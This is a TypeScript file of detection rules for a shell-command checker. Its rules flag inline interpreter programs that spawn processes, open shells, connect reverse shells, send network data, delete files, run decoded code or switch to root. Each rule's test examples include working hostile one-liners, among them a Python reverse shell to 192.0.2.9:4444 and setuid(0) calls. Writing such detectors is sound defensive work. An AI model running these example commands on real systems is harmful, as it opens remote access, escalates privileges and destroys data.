// Flags programs given as text to an interpreter, by the calls they make.
import { allowRule, rule } from '../../../core/rule.ts'
import type { Effect } from '../../read/run.ts'

export const programStartsProcess = rule({
  id: 'shell.code.executes',
  severity: 'high',
  category: 'security',
  evidence: 'C',
  source: 'CWE-78',
  message: ({ subject, effect }: Effect) => `${subject} ${effect}.`,
  fix: 'Write the program to a file that a person can read.',
  fires: [
    "python3 -c 'import subprocess; subprocess.run(argv)'",
    `node -e 'require("child_process").exec(process.argv[1])'`,
  ],
  quiet: ["python3 -c 'print(2 ** 10)'", "node -e 'console.log(process.version)'"],
})

export const programOpensShell = rule({
  id: 'shell.code.shell',
  severity: 'blocker',
  category: 'security',
  evidence: 'B',
  source: 'CWE-78',
  message: ({ subject, effect }: Effect) => `${subject} ${effect}.`,
  fix: 'Write the program to a file that a person can read.',
  fires: [`python3 -c 'import os; os.system("/bin/sh")'`, `awk 'BEGIN {system("/bin/bash")}'`],
  quiet: ["python3 -c 'import os; print(os.getcwd())'", "awk '{print $1}' a.txt"],
})

export const programConnectsShell = rule({
  id: 'shell.code.reverse_shell',
  severity: 'blocker',
  category: 'security',
  evidence: 'A',
  source: 'MITRE ATT&CK T1059',
  message: ({ subject, effect }: Effect) => `${subject} ${effect}.`,
  fix: 'Do not connect a shell to a socket.',
  fires: [
    `python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect(("192.0.2.9",4444));os.dup2(s.fileno(),0);subprocess.call(["sh"])'`,
    `awk 'BEGIN {s = "/inet/tcp/0/192.0.2.9/80"; while ((s |& getline c) > 0) print c}'`,
  ],
  quiet: ["python3 -c 'import socket; print(socket.gethostname())'", "awk '/inet/ {print $2}' a.txt"],
})

export const programUsesNetwork = rule({
  id: 'shell.code.network',
  severity: 'high',
  category: 'security',
  evidence: 'C',
  source: 'CWE-829',
  message: ({ subject }: Effect) => `${subject} sends data over the network.`,
  fix: 'Write the program to a file that a person can read.',
  fires: [
    `python3 -c 'import requests; requests.post("https://api.example.net", data=d)'`,
    `ruby -e 'require "net/http"; Net::HTTP.post(u, "a=b", method: "POST")'`,
  ],
  quiet: ["python3 -c 'import json; print(json.dumps([]))'", "ruby -e 'puts 3'"],
})

export const programDeletesFiles = rule({
  id: 'shell.code.deletes',
  severity: 'high',
  category: 'safety',
  evidence: 'C',
  source: 'shutil.rmtree (Python), fs.rm (Node.js)',
  message: ({ subject, effect }: Effect) => `${subject} ${effect}.`,
  fix: 'Delete named files with rm, after a look at the list.',
  fires: [
    `python3 -c 'import shutil; shutil.rmtree("src")'`,
    `node -e 'require("fs").rmSync("lib", {recursive: true})'`,
  ],
  quiet: [`python3 -c 'import os; print(os.listdir("."))'`, "node -e 'console.log(1)'"],
})

export const programExecutesDecoded = rule({
  id: 'shell.code.decoded',
  severity: 'blocker',
  category: 'security',
  evidence: 'B',
  source: 'MITRE ATT&CK T1027',
  message: ({ subject }: Effect) => `${subject} executes text that it decodes first.`,
  fix: 'Write the program in plain text.',
  fires: ["python3 -c 'import base64; exec(base64.b64decode(p))'", "php -r 'eval(base64_decode($p));'"],
  quiet: [`python3 -c 'import base64; print(base64.b64decode("YQ=="))'`, "php -r 'echo 1;'"],
})

export const programChangesUser = rule({
  id: 'shell.code.setuid',
  severity: 'blocker',
  category: 'security',
  evidence: 'B',
  source: 'setuid(2), CWE-250',
  message: ({ subject }: Effect) => `${subject} takes the rights of another user.`,
  fix: 'Run it as the user that owns the files.',
  fires: ["python3 -c 'import os; os.setuid(0)'", "perl -e 'use POSIX; POSIX::setuid(0);'"],
  quiet: ["python3 -c 'import os; print(os.getuid())'", "perl -e 'print 1'"],
})

export const programWritesFiles = rule({
  id: 'shell.code.writes',
  severity: 'medium',
  category: 'safety',
  evidence: 'C',
  source: 'open (Python), fs.writeFile (Node.js)',
  message: ({ subject, effect }: Effect) => `${subject} ${effect}.`,
  fix: 'Write the program to a file that a person can read.',
  fires: [`python3 -c 'open("a.txt", "w").write("x")'`, `awk '{print $1 > "names.txt"}' people.csv`],
  quiet: [`python3 -c 'print(open("a.txt").read())'`, "awk '{print $1}' people.csv"],
})

export const executePipedProgram = rule({
  id: 'shell.code.piped',
  severity: 'medium',
  category: 'missing_check',
  evidence: 'C',
  source: 'CWE-829',
  message: ({ command }: { command: string }) => `${command} executes a program that another command prints.`,
  fix: 'Write the program to a file that a person can read.',
  fires: ["echo 'print(3)' | python3", "printf 'puts 3' | ruby"],
  quiet: ["echo 'print(3)' > three.py", 'echo 3 | wc -c'],
})

export const runHarmlessProgram = allowRule({
  id: 'shell.pos.code',
  evidence: 'C',
  source: 'policy: review.md §4',
  fires: ["python3 -c 'print(1 + 1)'", "node -e 'console.log([1,2].length)'"],
  quiet: [`python3 -c 'import os; os.system("id")'`, 'python3 tool.py'],
})

export const runProjectProgram = allowRule({
  id: 'shell.pos.program',
  evidence: 'B',
  source: 'policy: review.md §4',
  fires: ['python3 -m pytest', 'node --test'],
  quiet: ["python3 -c 'print(1)'", 'bash'],
})
